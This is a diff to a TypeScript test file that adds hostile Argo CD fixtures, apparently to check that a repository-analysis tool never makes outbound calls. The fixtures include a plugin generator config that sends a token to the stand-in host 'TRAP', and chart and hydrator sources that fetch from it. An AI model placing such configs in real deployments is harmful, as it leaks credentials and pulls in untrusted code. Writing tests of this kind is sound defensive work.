@@ -159,6 +159,36 @@ const trees: Readonly<Record<string, readonly [Files, ...Call[]]>> = {
     }),
     just('forecast', '.'),
   ],
+  'a plug-in of a set and its address': [
+    {
+      ...harmless,
+      'apps/evil.yaml': set(
+        '[{ plugin: { configMapRef: { name: ask }, input: { parameters: { a: b } }, requeueAfterSeconds: 1 } }]',
+      ),
+      'apps/ask.yaml':
+        'apiVersion: v1\nkind: ConfigMap\nmetadata: { name: ask, namespace: argocd }\ndata: { baseUrl: "http://TRAP", token: "$ask:token" }\n',
+    },
+    just('forecast', '.'),
+    just('explain', 'generator-failed', '.'),
+  ],
+  'a chart of a registry that a lock names': [
+    {
+      ...harmless,
+      'apps/evil.yaml': app('repoURL: "TRAP/charts", chart: c, targetRevision: 1.0.0'),
+      'phineus.charts.lock.yaml':
+        'charts: [{ name: c, repository: "oci://TRAP/charts", version: 1.0.0, digest: "sha256:0", url: "http://TRAP/c.tgz" }]\n',
+    },
+    just('diff', '.', 'main'),
+    just('blame', '.', 'evil', 'ConfigMap/a'),
+  ],
+  'a source that is hydrated elsewhere': [
+    {
+      ...harmless,
+      'apps/evil.yaml':
+        'apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata: { name: evil, namespace: argocd }\nspec: { project: default, sourceHydrator: { drySource: { repoURL: "http://TRAP/x.git", path: a, targetRevision: HEAD }, syncSource: { targetBranch: e, path: b } }, destination: { server: https://kubernetes.default.svc, namespace: evil } }\n',
+    },
+    just('prove', '.', 'main'),
+  ],
   'remotes of the clone': [
     harmless,
     just('diff', '.'),
@@ -195,10 +225,7 @@ export const network: readonly CommandAttack[] = [
             ],
           }
         : {}),
-      calls: [
-        name.startsWith('a project') || name.startsWith('a catalog') ? just('check', '.') : free,
-        ...more,
-      ],
+      calls: [/^a (?:project|catalog|chart)/.test(name) ? just('check', '.') : free, ...more],
     }),
   ),
   attack(
